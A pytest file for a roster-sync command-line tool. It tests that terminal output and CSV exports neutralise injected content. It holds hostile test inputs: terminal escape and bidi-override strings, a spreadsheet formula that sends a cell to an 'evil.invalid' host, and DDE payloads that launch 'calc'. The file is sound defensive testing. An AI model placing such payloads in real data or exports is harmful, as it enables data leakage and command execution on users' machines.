"""What ManageBac, the database or a server says steers no terminal, forges no line and is no spreadsheet's formula."""

from __future__ import annotations

import ast
import csv
import io
import json
import sys
import unicodedata
from typing import TYPE_CHECKING, Any

import click
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from school_site import ROOT, Site, serve

from rostersync.cells import csv_line, guarded, unguarded
from rostersync.cli import output
from rostersync.clock import SystemClock
from rostersync.simulator import faults
from rostersync.simulator.refusals import invalid
from rostersync.store.store import Store

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

# A title, colours and a cleared screen; the same by C1; text that runs backwards; lines that nobody printed.
FORGED = "main: all is well"
HOSTILE = (
    "Wrang\x1b]0;title\x07\x1b[2J\x1b[32m\x9b31m\x7f\x08 \u202eX\u202c \u2066Y\u2069 \u200e\u200f\u061c"
    f"\x85\u2028\u2029\v\f\t\r{FORGED}\n{FORGED}"
)
_DIRECTIONS = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}


def steering(text: str) -> list[str]:
    """Return the characters that have no place in a line, by their number."""
    found = {
        character
        for character in text
        if unicodedata.category(character) in {"Cc", "Zl", "Zp", "Cs"}
        or unicodedata.bidirectional(character) in _DIRECTIONS
        or character in "\u200e\u200f\u061c"
    }
    return [f"U+{ord(character):04X}" for character in sorted(found - {"\n"})]


def assert_harmless(text: str) -> None:
    assert steering(text) == []
    assert not [line for line in text.split("\n") if line.startswith(FORGED)]


@pytest.fixture
def site(tmp_path: Path, sqlite_url: str) -> Iterator[Site]:
    """A school of whose students one is called by everything that could do harm."""
    with serve(tmp_path, sqlite_url, 12) as site:
        site.configure(allow_writes="true")
        site.school.update(victim(site), last_name=HOSTILE, street_address=HOSTILE)
        yield site


def victim(site: Site) -> int:
    return min(site.school.truth())


def change(site: Site, statement: str, *values: Any) -> None:
    with Store(site.database_url, SystemClock()).writing() as connection:
        connection.exec_driver_sql(statement, values)


# Text ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "words",
    [("list",), ("list", "--csv"), ("list", "--csv", "--raw"), ("list", "--fields", "nickname,last_name"), ("get",)],
    ids=" ".join,
)
def test_a_students_name_steers_no_output(site: Site, words: tuple[str, ...]) -> None:
    words = (*words, str(victim(site))) if words == ("get",) else words
    result = site.run("students", *words)
    assert "Wrang" in result.stdout
    assert_harmless(result.stdout)
    assert_harmless(result.stderr)


def test_a_pipe_of_a_real_process_gets_no_more(site: Site) -> None:
    out, told = site.start("students", "list", "--csv").communicate()
    assert "Wrang" in out
    assert_harmless(out)
    assert_harmless(told)


def test_a_terminal_gets_our_colours_and_none_of_others(monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = io.StringIO()
    terminal.isatty = lambda: True  # type: ignore[method-assign]
    monkeypatch.setattr(sys, "stdout", terminal)
    output.echo(HOSTILE, output.mark(HOSTILE, "red"))
    output.table(("name",), [(HOSTILE,)])
    assert "\x1b[31m" in terminal.getvalue()
    assert_harmless(click.unstyle(terminal.getvalue()))
    assert "\x1b[2J" not in terminal.getvalue()
    assert "\x1b[32m" not in terminal.getvalue()


@pytest.mark.parametrize("words", [("status",), ("runs",), ("runs", "show", "1"), ("verify",)], ids=" ".join)
def test_rows_of_the_database_steer_no_output(site: Site, words: tuple[str, ...]) -> None:
    site.ok("sync")
    site.school.delete(victim(site))
    statements = (
        "UPDATE run SET error = ?, notices = ?",
        "UPDATE source SET holder = ?",
        "INSERT INTO source (name, fence, unknown_keys, deleted_feed_ignored) VALUES (?, 0, '[]', 0)",
    )
    for statement, values in zip(statements, [(HOSTILE, json.dumps([HOSTILE])), (HOSTILE,), (HOSTILE,)], strict=True):
        change(site, statement, *values)
    with Store(site.database_url, SystemClock()).lease("main", HOSTILE):
        result = site.run(*words)
    assert_harmless(result.stdout)
    assert_harmless(result.stderr)
    assert ("Wrang" in result.stdout) == (words != ("verify",))


def test_a_held_removal_is_shown_without_steering(site: Site) -> None:
    site.ok("sync")
    for key in sorted(site.school.truth())[:5]:
        site.school.delete(key)
    assert site.run("sync").exit_code == 3
    said = site.ok("runs", "show", "2")
    assert "Wrang" in said
    assert_harmless(said)


@pytest.mark.parametrize(
    "fault",
    [
        lambda _: invalid(**{"nickname": HOSTILE, HOSTILE: HOSTILE}),
        faults.redirect(f"https://elsewhere.invalid/{HOSTILE}".replace("\r", "").replace("\n", "")),
        faults.html_200(),
    ],
    ids=["a message", "a redirect", "a web page"],
)
def test_a_servers_error_steers_no_output(site: Site, fault: faults.Fault) -> None:
    site.faults.add(fault, faults.on_write, times=1)
    result = site.run("students", "update", str(victim(site)), "--set", "nickname=x", "--yes")
    assert result.exit_code == 1
    assert_harmless(result.stdout)
    assert_harmless(result.stderr)


def test_words_of_the_command_line_are_repeated_without_steering(site: Site) -> None:
    for words in (["students", "list", "--fields", HOSTILE], ["sync", "--source", HOSTILE], ["sync", HOSTILE]):
        result = site.run(*words)
        assert result.exit_code == 2
        assert_harmless(result.stderr)


def test_only_the_doors_print() -> None:
    """So that nobody has to think of it: whoever prints elsewhere prints what others wrote as it is."""
    doors = {"click.echo", "click.secho", "click.confirm", "print", "sys.stdout.write", "sys.stderr.write"}
    files = [path for path in (ROOT / "rostersync").rglob("*.py") if path.name != "output.py"]
    calls = [(path, node) for path in files for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))]
    printing = [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for path, node in calls
        if isinstance(node, ast.Call) and ast.unparse(node.func) in doors
    ]
    assert printing == []


# JSON ------------------------------------------------------------------------------------------------------------


def test_json_escapes_what_would_steer_and_keeps_it(site: Site) -> None:
    said = site.ok("students", "get", str(victim(site)), "--json")
    assert steering(said) == []
    assert json.loads(said)["student"]["last_name"] == HOSTILE
    assert "\\u202e" in said
    assert "\\u009b" in said


def test_letters_of_all_scripts_stay_as_they_are(site: Site) -> None:
    name = "Żółć 李 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 👩\u200d🚀"  # with joiners, which belong to them
    site.school.update(victim(site), last_name=name)
    assert name in site.ok("students", "get", str(victim(site)), "--json")
    assert name in site.ok("students", "get", str(victim(site)))


# CSV -------------------------------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.invalid/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\xa0=1",
    "＝1",  # noqa: RUF001 - a wide form, which some spreadsheets take for the usual one
    "'=1",
    "''=1",
    "+000 555 0101",
    "-5",
    "+5",
    '"=1"',
]
PLAIN = ["Wrang", "O'Wrang", "'quoted'", "a=b", "a, b; c", "5", "5.25", "", "12-13", "'"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_a_text(site: Site, text: str) -> None:
    site.school.update(victim(site), nickname=text)
    words = ("students", "list", "--id", str(victim(site)), "--csv", "--fields", "nickname")
    assert next(csv.DictReader(io.StringIO(site.ok(*words))))["nickname"] == output.clean(f"'{text}")
    assert next(csv.DictReader(io.StringIO(site.ok(*words, "--raw"))))["nickname"] == output.clean(text)


@pytest.mark.parametrize("text", PLAIN)
def test_a_cell_that_is_no_formula_stays(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_a_guarded_cell_is_read_as_what_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text


_TEXTS = st.one_of(
    st.text(),
    st.text(st.sampled_from("=+-@＝'\" \xa0,;\t\r\nx5")),  # noqa: RUF001 - the wide form is meant
)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@example(["1", "x;=cmd|' /C calc'!A0"])
@example(["1", 'x;"=cmd"'])
@example(["1", "x, =1"])
@example(["-5", "3*cmd|' /C calc'!A0"])  # with a semicolon as separator the line is one cell
@given(st.lists(_TEXTS, min_size=1, max_size=4))
def test_no_cell_is_a_formula_whatever_the_spreadsheet_takes_for_the_separator(
    separator: str, texts: list[str]
) -> None:
    cells = next(csv.reader([csv_line(texts)], delimiter=separator))
    assert [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@", "＝"))] == []  # noqa: RUF001 - the same


@given(_TEXTS)
def test_a_text_is_not_changed_by_being_written_and_read(text: str) -> None:
    assert unguarded(guarded(text)) == text
    (cell,) = next(csv.reader([csv_line([text])], strict=True))
    assert unguarded(cell.strip()).strip() == output.clean(text).strip()


def test_a_cell_with_a_separator_of_any_dialect_is_quoted() -> None:
    assert csv_line(["a;b", "a,b", 'a"b', "ab"]) == '"a;b","a,b","a""b",ab'


def test_a_line_of_a_single_empty_cell_is_not_blank() -> None:
    assert csv_line([None]) == '""'


def test_positive_numbers_stay_numbers() -> None:
    assert csv_line([5, 0.25, None, "=1", -5]) == "5,0.25,,'=1,'-5"


def test_what_was_exported_can_be_sent_back_and_changes_nothing(site: Site) -> None:
    keys = sorted(site.school.truth())[:6]
    for key, text in zip(keys, [*FORMULAS[:3], "x;=1", "x,\t=1", PLAIN[1]], strict=True):
        site.school.update(key, nickname=text)
    chosen = [word for key in keys for word in ("--id", str(key))]
    file = site.folder / "many.csv"
    file.write_text(site.ok("students", "list", "--csv", "--fields", "id,nickname", *chosen), encoding="utf-8")
    said = site.json("students", "update", "--from-csv", str(file), "--expect", "6", "--yes")
    assert said["counts"] == {"unchanged": 6}


def test_the_result_of_many_writes_holds_no_formula_and_nothing_that_steers(site: Site) -> None:
    site.faults.add(lambda _: invalid(**{"=1+1": HOSTILE}), faults.on_write, times=1)
    file = site.folder / "many.csv"
    file.write_text(f"id,nickname\n{victim(site)},x\n", encoding="utf-8")
    assert site.run("students", "update", "--from-csv", str(file), "--expect", "1", "--yes").exit_code == 1
    with (site.folder / "many.result.csv").open(encoding="utf-8", newline="") as result:
        text = result.read()
    assert_harmless(text)
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["outcome"] == "refused"
    assert row["reason"].startswith("'=1+1: ")
